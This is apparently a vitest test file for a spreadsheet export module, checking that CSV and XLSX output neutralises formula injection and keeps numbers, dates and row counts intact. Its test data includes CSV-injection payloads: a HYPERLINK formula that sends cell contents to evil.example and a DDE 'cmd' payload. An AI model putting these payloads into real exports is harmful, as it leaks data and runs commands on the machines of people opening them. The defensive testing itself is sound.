import { buffer, text } from 'node:stream/consumers';
import exceljs from 'exceljs';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { writeCsv } from './csv.ts';
import { neutralised } from './formula.ts';
import type { ExportRow, ExportTable } from './table.ts';
import { writeXlsx } from './xlsx.ts';

const tableOf = (rows: readonly ExportRow[]): ExportTable => ({
  name: "Costs [by] service: 'all'",
  columns: [
    { header: 'Service', kind: 'text' },
    { header: '=cost', kind: 'number' },
    { header: 'From', kind: 'instant' },
  ],
  batches: (async function* () {
    yield rows;
  })(),
});

const readXlsx = async (rows: readonly ExportRow[]): Promise<exceljs.Worksheet> => {
  const workbook = new exceljs.Workbook();
  await workbook.xlsx.load((await buffer(writeXlsx(tableOf(rows)))) as never);
  const [sheet] = workbook.worksheets;
  if (!sheet) throw new Error('no sheet');
  return sheet;
};

const formulas = [
  '=HYPERLINK("http://evil.example?"&A1)',
  '+1+1',
  '-2+3+cmd|" /C calc"!A0',
  '@SUM(A1)',
  '\t=1',
  '\r=1',
  '\n=1',
  ' =1',
  '"=1',
  '\u0001=1',
  '＝1+1',
  'harmless;=1+1',
  'harmless,"@x',
  'a\n=1',
];
/** How a spreadsheet with any list separator would cut a text into cells. */
const begins = (value: string): string[] =>
  value.split(/[,;\t\r\n|]/).map((part) => part.replace(/^[\s"]+/, ''));

describe('texts in exports', () => {
  it.each(formulas)('%j begins no formula, in a cell or behind any separator', (formula) => {
    for (const part of begins(neutralised(formula))) expect(part).not.toMatch(/^[=+\-@＝＋－＠]/);
    expect(neutralised(formula)).toMatch(/^[^=+\-@\t\r]/);
  });

  it('begin no formula, whatever they are', () => {
    fc.assert(
      fc.property(
        fc.string({ unit: fc.constantFrom(...'=+-@\t\r\n ;,|"\'\u0000\u0001a1'), maxLength: 12 }),
        (value) => {
          for (const part of begins(neutralised(value))) expect(part).not.toMatch(/^[=+\-@]/);
        },
      ),
      { numRuns: 2000 },
    );
  });

  it('stay as they are when they are harmless', () => {
    for (const value of ['Amazon EC2', 'a-b', 'eu-west-1', 'x=1', "O'Brien", '100%', 'ä;b'])
      expect(neutralised(value)).toBe(value);
  });
});

describe('a CSV export', () => {
  it('keeps every digit of a number, also below zero, and quotes what needs it', async () => {
    const rows = [
      ['a "b", c', '-12.345678901234567890123', '2026-01-01T00:00:00Z'],
      [null, null, null],
    ] as const;
    expect(await text(writeCsv(tableOf(rows)))).toBe(
      `Service,'=cost,From\r\n"a ""b"", c",-12.345678901234567890123,2026-01-01T00:00:00Z\r\n,,\r\n`,
    );
  });

  it('treats a formula in a number column as text', async () => {
    expect(await text(writeCsv(tableOf([['a', '-1+1', null]])))).toContain("a,'-1+1,");
  });

  it.each([
    ['CSV', writeCsv],
    ['XLSX', writeXlsx],
  ])('and one as %s fails when its rows do', async (_name, write) => {
    const batches = async function* (): AsyncGenerator<readonly ExportRow[]> {
      yield [['a', '1', null]];
      throw new Error('gone');
    };
    await expect(buffer(write({ ...tableOf([]), batches: batches() }))).rejects.toThrow('gone');
  });
});

describe('an XLSX export', () => {
  it('has numbers as numbers, instants as dates and formulas as harmless text', async () => {
    const sheet = await readXlsx([
      ['=1+1', '-12.5', '2026-01-01T00:00:00Z'],
      ['\u0001=1', 'x', null],
    ]);
    expect(sheet.getCell('A2').value).toBe("'=1+1");
    expect(sheet.getCell('A3').value).toBe("'=1");
    expect(sheet.getCell('B2').value).toBe(-12.5);
    expect(sheet.getCell('C2').value).toEqual(new Date('2026-01-01T00:00:00Z'));
    expect(sheet.getCell('B1').value).toBe("'=cost");
  });

  it('writes tens of thousands of rows and loses none', async () => {
    const rows = Array.from({ length: 30_000 }, (_, index) => [`r${index}`, String(index), null]);
    const sheet = await readXlsx(rows);
    expect(sheet.rowCount).toBe(30_001);
    expect(sheet.getCell('B30001').value).toBe(29_999);
  });
});
